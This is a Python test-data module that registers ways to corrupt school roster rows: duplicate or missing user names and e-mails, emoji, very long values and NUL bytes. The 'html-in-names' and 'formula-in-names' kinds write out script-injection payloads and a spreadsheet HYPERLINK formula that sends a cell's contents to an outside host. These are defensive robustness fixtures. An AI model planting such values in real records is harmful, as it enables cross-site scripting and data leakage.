"""Mess in rows about people: names, user names, addresses, ids."""

from __future__ import annotations

from pathlib import Path

from .mess_kit import ROWS, Kinds, Mess, Row, edit, read, set_some, some

KINDS = Kinds()


@KINDS.add("usernames-with-spaces", "A few user names hold a space, as `first last` does.", ROWS)
def _spaces(folder: Path, mess: Mess) -> None:
    set_some(folder, "users", lambda row: {"username": row["username"].replace(".", " ", 1)})


def _copy_from_before(folder: Path, column: str, every: int) -> None:
    previous = [""]

    def change(row: Row, number: int) -> None:
        if number % every == 2 % every:
            row[column] = previous[0]
        previous[0] = row[column]

    edit(folder, "users", change)


@KINDS.add("doubled-usernames", "A few users have the user name of the user in the line before.", ROWS)
def _doubled(folder: Path, mess: Mess) -> None:
    _copy_from_before(folder, "username", 97)


@KINDS.add("every-username-doubled", "Each user name is given to two users.", ROWS)
def _all_doubled(folder: Path, mess: Mess) -> None:
    _copy_from_before(folder, "username", 2)


@KINDS.add("doubled-emails", "A few users have the e-mail address of the user in the line before.", ROWS)
def _emails(folder: Path, mess: Mess) -> None:
    _copy_from_before(folder, "email", 97)


@KINDS.add("doubled-sourcedids", "A few users come twice under one sourcedId, with different names.", ROWS)
def _doubled_ids(folder: Path, mess: Mess) -> None:
    def change(row: Row, number: int) -> list[Row] | None:
        twin = {**row, "familyName": row["familyName"] + " II", "username": "twin." + row["username"]}
        return [row, twin] if some(number, 97) else None

    edit(folder, "users", change)


@KINDS.add("missing-usernames", "A few users have no user name.", ROWS)
def _no_username(folder: Path, mess: Mess) -> None:
    set_some(folder, "users", lambda row: {"username": "", "userIds": ""})


@KINDS.add("missing-emails-and-usernames", "A few users have neither user name nor e-mail address.", ROWS)
def _no_name_at_all(folder: Path, mess: Mess) -> None:
    set_some(folder, "users", lambda row: {"username": "", "userIds": "", "email": ""})


@KINDS.add("disabled-users", "A few users have enabledUser=false.", ROWS)
def _disabled(folder: Path, mess: Mess) -> None:
    set_some(folder, "users", lambda row: {"enabledUser": "false"})


@KINDS.add("emoji", "A few given names and class titles hold emoji.", ROWS)
def _emoji(folder: Path, mess: Mess) -> None:
    set_some(folder, "users", lambda row: {"givenName": row["givenName"] + " 🎓👩🏽‍🚀"})
    set_some(folder, "classes", lambda row: {"title": "🧪 " + row["title"]})


@KINDS.add("very-long-values", "A few names and class titles are 5,000 characters long.", ROWS)
def _long(folder: Path, mess: Mess) -> None:
    set_some(folder, "users", lambda row: {"familyName": ((row["familyName"] + "-") * 5000)[:5000]}, 97)
    set_some(folder, "classes", lambda row: {"title": (row["title"] * 5000)[:5000]}, 97)


@KINDS.add("html-in-names", "A few names and class titles hold HTML with a script.", ROWS)
def _html(folder: Path, mess: Mess) -> None:
    script = "<script>alert('rollbook')</script>"
    set_some(folder, "users", lambda row: {"givenName": f"<b>{row['givenName']}</b>{script}"})
    set_some(folder, "classes", lambda row: {"title": f'{row["title"]} <img src=x onerror="alert(1)">'})


@KINDS.add("formula-in-names", "A few names and class titles begin like a spreadsheet formula.", ROWS)
def _formula(folder: Path, mess: Mess) -> None:
    link = '=HYPERLINK("http://example.com/?"&A1,"grades")'
    set_some(folder, "users", lambda row: {"familyName": link, "middleName": "+1+1", "givenName": "@SUM(A1:A9)"})
    set_some(folder, "classes", lambda row: {"title": "-2+3 " + row["title"]})


@KINDS.add("nul-bytes", "A few given names hold a NUL byte.", ROWS)
def _nul(folder: Path, mess: Mess) -> None:
    set_some(folder, "users", lambda row: {"givenName": row["givenName"][:2] + "\0" + row["givenName"][2:]})


@KINDS.add("agent-of-teacher", "A few pupils have a teacher as agent.", ROWS)
def _teacher_agent(folder: Path, mess: Mess) -> None:
    enrollments = read(folder, "enrollments")
    teacher = next((row["userSourcedId"] for row in enrollments if row["role"] == "teacher"), "")

    def change(row: Row, number: int) -> None:
        if some(number) and row["grades"]:
            row["agentSourcedIds"] = ",".join(filter(None, [row["agentSourcedIds"], teacher]))

    edit(folder, "users", change)
